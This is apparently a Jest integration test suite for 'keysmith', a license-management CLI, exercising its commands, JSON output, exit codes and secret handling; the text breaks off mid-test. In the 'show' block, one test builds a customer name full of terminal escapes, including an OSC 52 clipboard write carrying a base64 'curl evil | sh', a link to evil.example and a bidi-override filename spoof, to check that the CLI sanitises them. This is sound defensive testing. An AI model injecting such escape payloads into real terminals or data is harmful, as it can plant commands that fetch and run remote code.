import { generateKeyPairSync } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { devSecretsPath, formatEnvFile, readDevSecrets } from '../../../lib/local/devSecrets';
import { type LocalStack, startLocalStack } from '../../../lib/local/stack';
import { type FakeAws, startFakeAws } from './fakeAws';
import { buildCli, cli } from './support';

/**
 * Every CLI command against a local stack with the real handlers: human output, the `--json`
 * shapes scripts rely on, and the exit codes (0 ok, 1 failed, 2 usage, 3 invalid, 4 not found,
 * 6 unreachable). The CLI runs as a child process, exactly as `npx keysmith` does.
 */

const LICENSE_ROW_KEYS = ['licenseId', 'provider', 'order', 'scope', 'reference', 'product', 'productName', 'key', 'status', 'seats', 'issuedAt', 'expiresAt', 'customer', 'live'];

interface Row {
  licenseId: string;
  status: string;
  key: string;
  order: string;
}

describe('keysmith CLI against the local stack', () => {
  let stack: LocalStack;
  let stateDir: string;
  let port: number;
  const order = `cli-${Date.now()}`;
  const buyer = `buyer-${Date.now()}@example.com`;
  let deliveryId: string;
  let licenses: Row[];

  const run = (...args: string[]) => cli(args, { port });
  const emailsTo = async (to: string): Promise<number> => (await run('emails', '--to', to, '--json')).json<unknown[]>().length;

  beforeAll(async () => {
    buildCli();
    // The handlers log JSON lines to stdout; keep them out of the test report.
    jest.spyOn(process.stdout, 'write').mockImplementation(() => true);
    stateDir = mkdtempSync(join(tmpdir(), 'keysmith-cli-'));
    stack = await startLocalStack({ port: 0, stateDir, log: false });
    port = stack.port;

    // One order every test looks at: two licenses (the FastSpring sample has two items).
    const sent = await run('send', 'fastspring', '--order', order, '--email', buyer, '--json');
    expect(sent.code).toBe(0);
    deliveryId = sent.json<{ deliveryId: string }>().deliveryId;
    await stack.poller.drain(20_000);
    licenses = (await run('licenses', '--order', order, '--json')).json<Row[]>();
  }, 60_000);

  afterAll(async () => {
    await stack?.stop();
    jest.restoreAllMocks();
    rmSync(stateDir, { recursive: true, force: true });
  });

  describe('send', () => {
    it('keeps its --json contract and adds the delivery id', async () => {
      const r = await run('send', 'selldone', '--json');
      expect(r.code).toBe(0);
      const body = r.json<Record<string, unknown>>();
      expect(Object.keys(body)).toEqual(expect.arrayContaining(['provider', 'url', 'status', 'ok', 'body', 'orderId', 'eventIds', 'ms', 'deliveryId']));
      expect(body).toMatchObject({ provider: 'selldone', status: 200, ok: true, url: expect.stringMatching(/\/webhooks\/selldone\/\*\*\*$/) });
    });

    it('never prints the Selldone path secret, in text or JSON', async () => {
      const secret = readDevSecrets(stateDir)!.KEYSMITH_SELLDONE_PATH_SECRET!;
      const [json, human] = await Promise.all([run('send', 'selldone', '--json'), run('send', 'selldone')]);
      expect([json.code, human.code]).toEqual([0, 0]);
      expect(human.stdout).toMatch(/POST http:\/\/127\.0\.0\.1:\d+\/webhooks\/selldone\/\*\*\* → 200/);
      for (const r of [json, human]) expect(r.stdout + r.stderr).not.toContain(secret);
    });

    it('sends test orders for example.com customers, flagged where the provider has a test flag', async () => {
      const [fs, hotmart] = await Promise.all([run('send', 'fastspring', '--json'), run('send', 'hotmart', '--json')]);
      expect(fs.json()).toMatchObject({ status: 200, testOrder: true });
      expect(hotmart.json()).toMatchObject({ status: 200, testOrder: false });
      await stack.poller.drain(20_000);
      const rows = (await run('licenses', '--order', fs.json<{ orderId: string }>().orderId, '--json')).json<{ customer: string; live: boolean }[]>();
      expect(rows.length).toBeGreaterThan(0);
      for (const row of rows) expect(row).toMatchObject({ live: false, customer: expect.stringMatching(/@example\.com$/) });
    });

    it('prints what it did for people, and refuses unknown providers with exit 2', async () => {
      const [human, unknown] = await Promise.all([run('send', 'hotmart'), run('send', 'no-such-store')]);
      expect(human.code).toBe(0);
      expect(human.stdout).toMatch(/POST http:\/\/127\.0\.0\.1:\d+\/webhooks\/hotmart → 200/);
      expect(human.stdout).toMatch(/delivery: \S+/);
      expect(unknown.code).toBe(2);
      expect(unknown.stderr).toMatch(/unknown provider "no-such-store"/);
    });
  });

  describe('licenses', () => {
    it('finds by order, email and key with the documented --json row', async () => {
      expect(licenses).toHaveLength(2);
      expect(Object.keys(licenses[0]!).sort()).toEqual([...LICENSE_ROW_KEYS].sort());
      const [byEmail, byKey, human] = await Promise.all([run('licenses', '--email', buyer, '--json'), run('licenses', '--key', licenses[0]!.key, '--json'), run('licenses', '--order', order)]);
      expect(
        byEmail
          .json<Row[]>()
          .map((l) => l.licenseId)
          .sort(),
      ).toEqual(licenses.map((l) => l.licenseId).sort());
      expect(byKey.json<Row[]>()).toEqual([licenses[0]]);
      expect(human.stdout).toMatch(/^LICENSE\s+PROVIDER\s+ORDER/);
    });

    it('exits 2 on bad arguments and 0 with [] when nothing matches', async () => {
      const [none, both, badProvider] = await Promise.all([
        run('licenses', '--order', 'no-such-order', '--json'),
        run('licenses', '--order', 'a', '--email', 'b@example.com'),
        run('licenses', '--order', order, '--provider', 'no-such-store'),
      ]);
      expect(none.code).toBe(0);
      expect(none.json()).toEqual([]);
      expect(both.code).toBe(2);
      expect(badProvider.code).toBe(2);
    });
  });

  describe('show', () => {
    it('prints a customer name full of terminal escapes without a single control character', async () => {
      // Prepare: a signed FastSpring order whose customer name carries an OSC 52 clipboard
      // write, a screen clear, an OSC 8 link, a C1 CSI and a bidi override.
      const evil = `Eve\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b[2J\u001b]8;;https://evil.example/\u001b\\link\u001b]8;;\u001b\\\u009b2J\u202Egpj.exe`;
      const payload = JSON.parse(readFileSync(join(__dirname, '../../fixtures/providers/fastspring-order-completed.json'), 'utf8')) as {
        events: { id: string; data: { id: string; order: string; account: { contact: { first: string; email: string } }; customer?: { first: string } } }[];
      };
      const evilOrder = `evil-${Date.now()}`;
      const event = payload.events[0]!;
      event.id = `evt-${evilOrder}`;
      event.data.id = evilOrder;
      event.data.order = evilOrder;
      event.data.account.contact.first = evil;
      if (event.data.customer) event.data.customer.first = evil;
      const file = join(stateDir, 'evil.json');
      writeFileSync(file, JSON.stringify(payload));
      expect((await run('send', 'fastspring', '--file', file)).code).toBe(0);
      await stack.poller.drain(20_000);
      const [row] = (await run('licenses', '--order', evilOrder, '--json')).json<Row[]>();

      // Act
      const [human, json, list] = await Promise.all([run('show', row!.licenseId), run('show', row!.licenseId, '--json'), run('licenses', '--order', evilOrder)]);
      expect(list.stdout).toContain(row!.licenseId);

      // Assess: the name is shown, its controls are not — cleaned where it entered (the canonical
      // event) and again where it is printed (unit tests cover each on its own).
      expect(human.code).toBe(0);
      expect(human.stdout).toMatch(/^customer {2}\S+@\S+ \(Evelinkgpj\.exe Doe\)$/m);
      for (const r of [human, json, list]) expect(r.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
      expect(json.json<{ entitlement: { customer: { name: string } } }>().entitlement.customer.name).toBe('Evelinkgpj.exe Doe');
    });

    it('shows the license with history and the events applied, email status included', async () => {
      const [json, human] = await Promise.all([run('show', licenses[0]!.licenseId, '--json'), run('show', licenses[0]!.licenseId)]);
      expect(json.code).toBe(0);
      const shown = json.json<{
        license: Row & { history: { action: string }[] };
        entitlement: { order: string; customer: { email: string } };
        events: { action: string; email?: { status: string; messageId?: string } }[];
      }>();
      expect(shown.license).toMatchObject({ licenseId: licenses[0]!.licenseId, status: 'active' });
      expect(shown.license.history[0]).toMatchObject({ action: 'issue' });
      expect(shown.entitlement).toMatchObject({ order, customer: { email: buyer } });
      expect(shown.events[0]).toMatchObject({ action: 'grant', email: { status: 'sent', messageId: expect.any(String) } });
      expect(human.stdout).toMatch(/history/);
      expect(human.stdout).toMatch(/license sent/);
    });

    it('accepts the license key, and exits 4 for an unknown license', async () => {
      const [byKey, missing] = await Promise.all([run('show', licenses[1]!.key, '--json'), run('show', 'lic_doesnotexist')]);
      expect(byKey.json<{ license: Row }>().license.licenseId).toBe(licenses[1]!.licenseId);
      expect(missing.code).toBe(4);
      expect(missing.stderr).toMatch(/no license lic_doesnotexist/);
    });
  });

  describe('revoke, suspend, reinstate', () => {
    it('suspends and reinstates through the worker, recorded in the history', async () => {
      const id = licenses[1]!.licenseId;
      const suspended = await run('suspend', id, '--reason', 'payment dispute', '--json');
      expect(suspended.code).toBe(0);
      const suspendedEvent = suspended.json<{ eventId: string }>().eventId;
      expect(suspended.json()).toMatchObject({ licenseId: id, action: 'suspend', applied: true, ok: true, reason: 'manual: payment dispute', license: { status: 'suspended' } });
      // show says why it is not active: the hold, on this license, with the event that set it.
      const [held, heldHuman] = await Promise.all([run('show', id, '--json'), run('show', id)]);
      expect(held.json<{ license: { holds: unknown[] } }>().license.holds).toEqual([
        { kind: 'seller-suspended', on: 'license', since: expect.any(String), eventId: suspendedEvent, reason: 'manual: payment dispute' },
      ]);
      expect(heldHuman.stdout).toMatch(
        /^holds {5}why it is not active:\n {2}- suspended by you \(lifted only by `keysmith reinstate`\); on the license, since .* by manual: payment dispute \(manual#/m,
      );
      const reinstated = await run('reinstate', id, '--reason', 'dispute won');
      expect(reinstated.code).toBe(0);
      expect(reinstated.stdout).toMatch(/suspended → active/);
      const history = (await run('show', id, '--json')).json<{ license: { history: { action: string; reason: string }[] } }>().license.history;
      expect(history.map((h) => `${h.action}:${h.reason}`)).toEqual(['issue:order.completed', 'suspend:manual: payment dispute', 'reinstate:manual: dispute won']);
      expect((await run('show', id, '--json')).json<{ license: { holds: unknown[] } }>().license.holds).toEqual([]);
      // A second reinstatement lifts nothing: recorded, and said, as "no change".
      const again = await run('reinstate', id, '--reason', 'nothing to lift');
      expect(again.code).toBe(0);
      expect(again.stdout).toMatch(/no change, still active/);
    });

    it('revokes (also without waiting); a revocation is final, so reinstate exits 1', async () => {
      const id = licenses[1]!.licenseId;
      const queued = await run('revoke', id, '--reason', 'refund by email', '--no-wait', '--json');
      expect(queued.code).toBe(0);
      expect(queued.json()).toMatchObject({ action: 'revoke', applied: false, eventId: expect.stringMatching(/^manual#/) });
      await stack.poller.drain(20_000);
      expect((await run('show', id, '--json')).json<{ license: Row }>().license.status).toBe('revoked');

      const again = await run('reinstate', id, '--reason', 'oops', '--json');
      expect(again.code).toBe(1);
      expect(again.json()).toMatchObject({ ok: false, license: { status: 'revoked' } });
      expect(again.stderr).toMatch(/revocation is final/);
    });

    it('exits 2 without --reason and 4 for an unknown license', async () => {
      const [noReason, missing] = await Promise.all([run('revoke', licenses[0]!.licenseId), run('suspend', 'lic_nope', '--reason', 'x')]);
      expect(noReason.code).toBe(2);
      expect(noReason.stderr).toMatch(/--reason/);
      expect(missing.code).toBe(4);
    });
  });

  describe('resend', () => {
    it('emails the active licenses again and reports the SES message id', async () => {
      const before = await emailsTo(buyer);
      const r = await run('resend', order, '--json');
      expect(r.code).toBe(0);
      const result = r.json<{ order: string; resent: { to: string; licenseIds: string[]; email: { status: string; messageId: string } }[] }>();
      // License 2 was revoked above: only the active one is sent.
      expect(result).toMatchObject({ order, resent: [{ to: buyer, licenseIds: [licenses[0]!.licenseId], email: { status: 'sent', messageId: expect.any(String) } }] });
      expect(await emailsTo(buyer)).toBe(before + 1);
    });

    it('exits 4 for an unknown order', async () => {
      const r = await run('resend', 'no-such-order');
      expect(r.code).toBe(4);
    });
  });

  describe('deliveries', () => {
    it('lists verified requests with their status, filtered by provider, order and status', async () => {
      const [all, byOrder, byProvider, pending, human] = await Promise.all([
        run('deliveries', '--json'),
        run('deliveries', '--order', order, '--json'),
        run('deliveries', '--provider', 'hotmart', '--json'),
        run('deliveries', '--status', 'pending', '--order', order, '--json'),
        run('deliveries', '--since', '1h'),
      ]);
      expect(all.code).toBe(0);
      const rows =
        all.json<{ deliveryId: string; provider: string; status: string; route: string; receivedAt: string; problems: string[]; events: { eventId: string; scope: string; status: string }[] }[]>();
      const ours = rows.find((r) => r.deliveryId === deliveryId);
      expect(ours).toMatchObject({ provider: 'fastspring', status: 'applied', route: 'POST /webhooks/fastspring', problems: [], events: [{ scope: order, status: 'applied' }] });
      expect(byOrder.json<{ deliveryId: string }[]>().map((r) => r.deliveryId)).toEqual([deliveryId]);
      expect(byProvider.json<{ provider: string }[]>().every((r) => r.provider === 'hotmart')).toBe(true);
      expect(byProvider.json<unknown[]>().length).toBeGreaterThanOrEqual(1);
      expect(pending.json()).toEqual([]);
      expect(human.stdout).toMatch(/^RECEIVED\s+PROVIDER\s+STATUS/);
    });

    it('exits 2 for a malformed --since or --status', async () => {
      const [since, status] = await Promise.all([run('deliveries', '--since', 'yesterday'), run('deliveries', '--status', 'lost')]);
      expect(since.code).toBe(2);
      expect(status.code).toBe(2);
    });
  });

  describe('replay', () => {
    it('re-enqueues a completed delivery with the same event ids: a no-op', async () => {
      const emails = await emailsTo(buyer);
      const r = await run('replay', deliveryId, '--json');
      expect(r.code).toBe(0);
      expect(r.json()).toMatchObject({ deliveryId, provider: 'fastspring', enqueued: 1, events: [{ scope: order, recorded: true, before: 'applied', after: 'applied' }], resent: [] });
      await stack.poller.drain(20_000);
      expect(await emailsTo(buyer)).toBe(emails);
      expect((await run('licenses', '--order', order, '--json')).json<Row[]>()).toHaveLength(2);
    });

    it('--force re-sends the email exactly once', async () => {
      const emails = await emailsTo(buyer);
      const r = await run('replay', deliveryId, '--force', '--json');
      expect(r.code).toBe(0);
      expect(r.json()).toMatchObject({ resent: [{ to: buyer, email: { status: 'sent' } }] });
      await stack.poller.drain(20_000);
      expect(await emailsTo(buyer)).toBe(emails + 1);
      expect((await run('licenses', '--order', order, '--json')).json<Row[]>()).toHaveLength(2);
    });

    it('applies a Stripe refund that was stored under its payment before the link to the subscription', async () => {
      const sub = `sub_cli${Date.now()}`;
      const statuses = async () => (await run('licenses', '--order', sub, '--json')).json<Row[]>().map((l) => l.status);
      // The refund comes first (Stripe retrying after an outage), then the payment's invoice.
      const early = await run('send', 'stripe', '--event', 'charge.refunded', '--order', sub, '--json');
      expect(early.code).toBe(0);
      await stack.poller.drain(20_000);
      for (const event of ['invoice.paid', 'invoice_payment.paid']) expect((await run('send', 'stripe', '--event', event, '--order', sub, '--json')).code).toBe(0);
      await stack.poller.drain(20_000);
      expect(new Set(await statuses())).toEqual(new Set(['active']));

      const r = await run('replay', early.json<{ deliveryId: string }>().deliveryId, '--json');
      expect(r.code).toBe(0);
      expect(r.json()).toMatchObject({ provider: 'stripe', events: [{ action: 'revoke', scope: sub, before: 'pending', after: 'applied' }] });
      expect(new Set(await statuses())).toEqual(new Set(['revoked']));
    });

    it('reports a Stripe subscription payment’s refund as applied, on the subscription it reached through two links', async () => {
      const sub = `sub_cli2${Date.now()}`;
      for (const event of ['invoice.paid', 'invoice_payment.paid']) expect((await run('send', 'stripe', '--event', event, '--order', sub, '--json')).code).toBe(0);
      await stack.poller.drain(20_000);
      const refund = await run('send', 'stripe', '--event', 'charge.refunded', '--order', sub, '--json');
      await stack.poller.drain(20_000);
      expect(new Set((await run('licenses', '--order', sub, '--json')).json<Row[]>().map((l) => l.status))).toEqual(new Set(['revoked']));
      // The delivery names the payment intent; the 2025 shape leads from it to the invoice, then the subscription.
      const listed = (await run('deliveries', '--provider', 'stripe', '--json')).json<{ deliveryId: string; status: string; events: { scope: string; status: string }[] }[]>();
      const row = listed.find((r) => r.deliveryId === refund.json<{ deliveryId: string }>().deliveryId);
      expect(row).toMatchObject({ status: 'applied', events: [{ scope: expect.stringMatching(/^pi_/), status: 'applied' }] });
    });

    it('exits 4 for an unknown delivery and 2 for --force with --no-wait', async () => {
      const [missing, conflicting] = await Promise.all([run('replay', 'no-such-delivery'), run('replay', deliveryId, '--force', '--no-wait')]);
      expect(missing.code).toBe(4);
      expect(conflicting.code).toBe(2);
    });
  });

  describe('dlq', () => {
    it('lists an empty DLQ, and exits 4 / 2 for unknown messages and missing flags', async () => {
      const [json, human, show, redrive, redriveAll] = await Promise.all([
        run('dlq', 'list', '--json'),
        run('dlq', 'list'),
        run('dlq', 'show', 'no-such-message'),
        run('dlq', 'redrive'),
        run('dlq', 'redrive', '--all', '--json'),
      ]);
      expect(json.json()).toEqual({ count: 0, messages: [] });
      expect(human.stdout).toMatch(/the DLQ is empty/);
      expect(show.code).toBe(4);
      expect(redrive.code).toBe(2);
      expect(redriveAll.json()).toMatchObject({ moved: 0, total: 0, status: 'COMPLETED' });
    });
  });

  describe('doctor', () => {
    it('gives a verdict per line and exits 0 on a healthy stack', async () => {
      const [json, human] = await Promise.all([run('doctor', '--json'), run('doctor')]);
      expect(json.code).toBe(0);
      const result = json.json<{ ok: boolean; target: string; checks: { check: string; status: string; detail: string }[] }>();
      expect(result).toMatchObject({ ok: true, target: 'local' });
      expect(result.checks).toEqual(
        expect.arrayContaining([
          { check: 'secrets', status: 'ok', detail: 'KEYSMITH_FASTSPRING_SECRET set' },
          { check: 'dlq', status: 'ok', detail: 'the DLQ is empty' },
          { check: 'ses sandbox', status: 'skip', detail: 'n/a (local)' },
          // The example catalog licenses any product id: flagged, not fatal.
          { check: 'catalog', status: 'warn', detail: expect.stringMatching(/keysmith\.example\.json: this is the example catalog .*licenses ANY product id/) },
        ]),
      );
      expect(human.stdout).toMatch(/^✔ local stack/m);
      expect(human.stdout).toMatch(/healthy/);
      // What does not apply is not ✔.
      expect(human.stdout).toMatch(/^– ses sandbox\s+n\/a \(local\)/m);
      expect(human.stdout).not.toMatch(/^✔.*n\/a/m);
      // Keys are tried at their job.
      expect(human.stdout).toMatch(/^✔ secrets\s+KEYSMITH_LICENSE_SIGNING_KEY signs a license and its public key verifies it/m);
      // Values are never printed.
      expect(human.stdout).not.toContain(stack.env.KEYSMITH_FASTSPRING_SECRET!);
    });

    it('fails, naming it, on a signing key that looks right but cannot sign', async () => {
      // Prepare: the stack's signing key as a PEM with literal \r\n escapes (passes the format check).
      const file = devSecretsPath(stateDir);
      const original = readFileSync(file, 'utf8');
      const values = readDevSecrets(stateDir)!;
      const broken = values.KEYSMITH_LICENSE_SIGNING_KEY!.replace(/\\n/g, '\n').trim().split('\n').join('\\r\\n');
      writeFileSync(file, formatEnvFile({ ...values, KEYSMITH_LICENSE_SIGNING_KEY: broken }));
      expect(readDevSecrets(stateDir)!.KEYSMITH_LICENSE_SIGNING_KEY).toBe(broken);
      try {
        // Act
        const r = await run('doctor');

        // Assess
        expect(r.code).toBe(1);
        expect(r.stdout).toMatch(/^✘ secrets\s+KEYSMITH_LICENSE_SIGNING_KEY cannot sign a license/m);
        expect(r.stdout).not.toMatch(/^healthy/m);
        expect(r.stderr).toMatch(/KEYSMITH_LICENSE_SIGNING_KEY cannot sign/);
      } finally {
        writeFileSync(file, original);
      }
    });
  });

  describe('emails, verify, keys', () => {
    it('emails keeps its --json contract; verify exits 3 for an invalid token; keys generate', async () => {
      const [mails, bad, keys, aws] = await Promise.all([
        run('emails', '--to', buyer, '--json'),
        run('verify', 'not.a.token'),
        run('keys', 'generate', '--json'),
        cli(['emails', '--stack', 'Prod'], { port }),
      ]);
      const rows = mails.json<Record<string, unknown>[]>();
      expect(Object.keys(rows[0]!).sort()).toEqual(['at', 'from', 'html', 'messageId', 'subject', 'text', 'to']);
      expect(bad.code).toBe(3);
      expect(keys.json()).toEqual({ signingKey: expect.stringContaining('PRIVATE KEY'), publicKey: expect.stringContaining('PUBLIC KEY'), licenseSecret: expect.any(String) });
      expect(aws.code).toBe(2);
    });
  });

  describe('secrets set (local: the stack’s dev secrets file)', () => {
    it('stores a value from stdin without echoing it and says to restart', async () => {
      const value = 'hottok-from-the-hotmart-dashboard-1234';
      const r = await cli(['secrets', 'set', 'KEYSMITH_HOTMART_HOTTOK', '--json'], { port, input: `${value}\n` });
      expect(r.code).toBe(0);
      expect(r.json()).toEqual({ name: 'KEYSMITH_HOTMART_HOTTOK', target: 'local', where: stack.secretsFile, changed: true, restart: true });
      expect(r.stdout + r.stderr).not.toContain(value);
      expect(readDevSecrets(stateDir)?.KEYSMITH_HOTMART_HOTTOK).toBe(value);
      expect(readFileSync(stack.secretsFile, 'utf8')).toContain('KEYSMITH_LICENSE_SIGNING_KEY=');
    });

    it('validates PEM keys and the Elements offer JSON; unknown names and locally unsupported _PREVIOUS exit 2', async () => {
      const pemFile = join(stateDir, 'paddle.pem');
      writeFileSync(pemFile, generateKeyPairSync('rsa', { modulusLength: 2048 }).publicKey.export({ type: 'spki', format: 'pem' }));
      const notPem = join(stateDir, 'not.pem');
      writeFileSync(notPem, 'hello');
      const [good, bad, offers, unknown, previous] = await Promise.all([
        cli(['secrets', 'set', 'KEYSMITH_PADDLE_PUBLIC_KEY', '--from-file', pemFile], { port }),
        cli(['secrets', 'set', 'KEYSMITH_PADDLE_SANDBOX_PUBLIC_KEY', '--from-file', notPem], { port }),
        cli(['secrets', 'set', 'KEYSMITH_ELEMENTS_OFFER_KEYS'], { port, input: '{"offer": "not a key"}' }),
        cli(['secrets', 'set', 'KEYSMITH_NOPE'], { port, input: 'x' }),
        cli(['secrets', 'set', 'KEYSMITH_FASTSPRING_SECRET_PREVIOUS'], { port, input: 'x' }),
      ]);
      expect(good.code).toBe(0);
      expect(good.stdout).toMatch(/KEYSMITH_PADDLE_PUBLIC_KEY set in .*dev-secrets\.env/);
      expect(bad.code).toBe(2);
      expect(bad.stderr).toMatch(/KEYSMITH_PADDLE_SANDBOX_PUBLIC_KEY is not PEM/);
      expect(offers.code).toBe(2);
      expect(offers.stderr).toMatch(/offer "offer"/);
      expect(unknown.code).toBe(2);
      expect(previous.code).toBe(2);
    });

    it('refuses to change the license secret without --force (exit 1)', async () => {
      const r = await cli(['secrets', 'set', 'KEYSMITH_LICENSE_SECRET'], { port, input: 'a-brand-new-license-secret-value' });
      expect(r.code).toBe(1);
      expect(r.stderr).toMatch(/--force/);
    });
  });

  describe('--stack: a deployed stack (CloudFormation, Secrets Manager, SNS and SES faked; SQS and DynamoDB the emulators)', () => {
    let aws: FakeAws;
    const stackName = 'KeysmithTest';
    const secretArn = 'arn:aws:secretsmanager:us-east-1:000000000000:secret:keysmith-AbCdEf';
    const inAws = (args: string[], input?: string, env: Record<string, string | undefined> = {}) =>
      cli([...args, '--stack', stackName, '--region', 'us-east-1'], {
        port,
        ...(input !== undefined ? { input } : {}),
        env: {
          AWS_ENDPOINT_URL_CLOUDFORMATION: aws.url,
          AWS_ENDPOINT_URL_SECRETS_MANAGER: aws.url,
          AWS_ENDPOINT_URL_SNS: aws.url,
          AWS_ENDPOINT_URL_SES: aws.url,
          AWS_ENDPOINT_URL_SESV2: aws.url,
          ...env,
        },
      });

    beforeAll(async () => {
      aws = await startFakeAws({
        stackName,
        stackStatus: 'UPDATE_COMPLETE',
        outputs: {
          ApiUrl: stack.url,
          QueueUrl: stack.queueUrl,
          DlqUrl: stack.dlqUrl,
          TableName: stack.tableName,
          SecretArn: secretArn,
          AlarmTopicArn: 'arn:aws:sns:us-east-1:000000000000:keysmith-alarms',
          WorkerFunctionName: 'keysmith-worker',
        },
        // As after `cdk deploy`: only the generated license secret.
        secret: { KEYSMITH_LICENSE_SECRET: stack.env.KEYSMITH_LICENSE_SECRET! },
        identities: { 'example.com': 'Success' },
        quota: { max: 200, rate: 1, sent: 3 },
        subscriptions: ['PendingConfirmation'],
        alarms: ['DeadLetterQueueAlarm'],
      });
    });
    afterAll(() => aws?.stop());

    it('finds resources from the stack outputs', async () => {
      const [found, dlq, missing] = await Promise.all([
        inAws(['licenses', '--order', order, '--json']),
        inAws(['dlq', 'list', '--json']),
        cli(['licenses', '--order', order, '--stack', 'Nope', '--region', 'us-east-1'], { port, env: { AWS_ENDPOINT_URL_CLOUDFORMATION: aws.url } }),
      ]);
      expect(found.code).toBe(0);
      expect(
        found
          .json<Row[]>()
          .map((l) => l.licenseId)
          .sort(),
      ).toEqual(licenses.map((l) => l.licenseId).sort());
      expect(dlq.json()).toEqual({ count: 0, messages: [] });
      expect(missing.code).toBe(6);
      expect(missing.stderr).toMatch(/Nope does not exist/);
    });

    it('secrets set merges into the secret JSON; send then signs with it', async () => {
      const value = stack.env.KEYSMITH_FASTSPRING_SECRET!;
      const set = await inAws(['secrets', 'set', 'KEYSMITH_FASTSPRING_SECRET', '--json'], value);
      expect(set.code).toBe(0);
      expect(set.json()).toEqual({ name: 'KEYSMITH_FASTSPRING_SECRET', target: 'aws', where: secretArn, changed: true, restart: false });
      expect(aws.state.secret).toEqual({ KEYSMITH_LICENSE_SECRET: stack.env.KEYSMITH_LICENSE_SECRET, KEYSMITH_FASTSPRING_SECRET: value });
      expect(set.stdout + set.stderr).not.toContain(value);

      const licenseSecret = await inAws(['secrets', 'set', 'KEYSMITH_LICENSE_SECRET'], 'another-license-secret-entirely');
      expect(licenseSecret.code).toBe(1);
      expect(aws.state.secret.KEYSMITH_LICENSE_SECRET).toBe(stack.env.KEYSMITH_LICENSE_SECRET);

      // Production secrets, a real stack: without a terminal to ask on, only --yes sends.
      const refused = await inAws(['send', 'fastspring', '--json'], undefined, { KEYSMITH_FASTSPRING_SECRET: undefined });
      expect(refused.code).toBe(2);
      expect(refused.stderr).toMatch(/--yes/);
      // The environment has no FastSpring secret: the signature can only come from the stack's secret.
      const sent = await inAws(['send', 'fastspring', '--json', '--yes'], undefined, { KEYSMITH_FASTSPRING_SECRET: undefined });
      expect(sent.code).toBe(0);
      expect(sent.json()).toMatchObject({ status: 200, url: `${stack.url}/webhooks/fastspring` });
    });

    it('doctor checks the stack, secret keys, SES identity and sandbox, alarms and their subscribers', async () => {
      const healthy = await inAws(['doctor', '--json']);
      expect(healthy.code).toBe(0);
      const result = healthy.json<{ ok: boolean; target: string; checks: { check: string; status: string; detail: string }[] }>();
      expect(result).toMatchObject({ ok: true, target: 'aws' });
      const verdict = (check: string) => result.checks.filter((c) => c.check === check).map((c) => c.status);
      expect(verdict('stack')).toEqual(['ok', 'ok']);
      expect(verdict('ses identity')).toEqual(['ok']);
      expect(verdict('ses sandbox')).toEqual(['warn']);
      expect(verdict('alarms')).toEqual(['ok']);
      expect(verdict('alarm topic')).toEqual(['warn']);
      expect(verdict('dlq')).toEqual(['ok']);
      expect(result.checks).toContainEqual({ check: 'secrets', status: 'warn', detail: expect.stringMatching(/^KEYSMITH_HOTMART_HOTTOK not set in the secret/) });
      // A secret its registration declares optional is not applicable when unset, not a warning.
      expect(result.checks).toContainEqual({ check: 'secrets', status: 'skip', detail: 'KEYSMITH_PADDLE_SANDBOX_PUBLIC_KEY not set (n/a: only Paddle sandbox orders need it)' });
      expect(healthy.stdout).not.toContain(stack.env.KEYSMITH_LICENSE_SECRET!);

      aws.state.identities = {};
      aws.state.subscriptions = [];
      const broken = await inAws(['doctor']);
      expect(broken.code).toBe(1);
      expect(broken.stdout).toMatch(/^✘ ses identity\s+sender licenses@example\.com is not verified/m);
      expect(broken.stdout).toMatch(/^✘ alarm topic\s+nobody is told/m);
      expect(broken.stdout).toMatch(/^! ses sandbox\s+SES us-east-1 is in the sandbox .*SES_SANDBOX_RECIPIENT/m);
      expect(aws.calls).toEqual(expect.arrayContaining(['sesv2:GetAccount', 'sesv2:GetEmailIdentity']));
    });

    it('doctor reads the sandbox from SES v2 (not from the quota) and checks the sender with GetEmailIdentity', async () => {
      // Prepare: out of the sandbox, the sender verified by address only, a pending domain.
      aws.state.productionAccess = true;
      aws.state.identities = { 'licenses@example.com': 'Success', 'example.com': 'Pending' };

      // Act
      const verified = await inAws(['doctor', '--json']);
      aws.state.identities = { 'example.com': 'Pending' };
      aws.state.sendingEnabled = false;
      const paused = await inAws(['doctor', '--json']);
      aws.state.productionAccess = false;
      aws.state.sendingEnabled = true;
      aws.state.identities = { 'example.com': 'Success' };

      // Assess
      type Result = { checks: { check: string; status: string; detail: string }[] };
      const line = (r: Result, check: string) => r.checks.find((c) => c.check === check);
      expect(line(verified.json<Result>(), 'ses sandbox')).toMatchObject({ status: 'ok', detail: expect.stringMatching(/^production access in SES us-east-1: 200\/day, 1\/s/) });
      expect(line(verified.json<Result>(), 'ses identity')).toMatchObject({ status: 'ok', detail: 'sender licenses@example.com verified (address)' });
      expect(line(paused.json<Result>(), 'ses identity')).toMatchObject({ status: 'fail', detail: expect.stringMatching(/not verified in SES us-east-1 \(domain pending\)/) });
      expect(line(paused.json<Result>(), 'ses sandbox')).toMatchObject({ status: 'fail', detail: expect.stringMatching(/sending is paused/) });
      expect(paused.code).toBe(1);
    });

    it('with split secrets, secrets set writes each name into its own secret and moves it out of the license secret; doctor flags leftovers', async () => {
      // Prepare: the outputs of a stack with provider secrets; the HOTTOK is where the old stack kept it.
      const fastspringArn = 'arn:aws:secretsmanager:us-east-1:000000000000:secret:keysmith-fastspring-AbCdEf';
      const hotmartArn = 'arn:aws:secretsmanager:us-east-1:000000000000:secret:keysmith-hotmart-AbCdEf';
      const saved = { outputs: { ...aws.state.outputs }, secret: { ...aws.state.secret }, identities: aws.state.identities, subscriptions: aws.state.subscriptions };
      Object.assign(aws.state.outputs, { SecretArnFastspring: fastspringArn, SecretArnHotmart: hotmartArn });
      aws.state.secrets = { [fastspringArn]: {}, [hotmartArn]: {} };
      aws.state.secret = { KEYSMITH_LICENSE_SECRET: stack.env.KEYSMITH_LICENSE_SECRET!, KEYSMITH_HOTMART_HOTTOK: 'legacy-hottok-value-0123456789' };
      aws.state.identities = { 'example.com': 'Success' };
      try {
        // Act 1: a new provider value, then doctor.
        const value = stack.env.KEYSMITH_FASTSPRING_SECRET!;
        const set = await inAws(['secrets', 'set', 'KEYSMITH_FASTSPRING_SECRET', '--json'], value);
        const doctor = await inAws(['doctor', '--json']);
        // Assess 1: only in the FastSpring secret; the leftover HOTTOK named, never its value.
        expect(set.json()).toEqual({ name: 'KEYSMITH_FASTSPRING_SECRET', target: 'aws', where: fastspringArn, changed: true, restart: false });
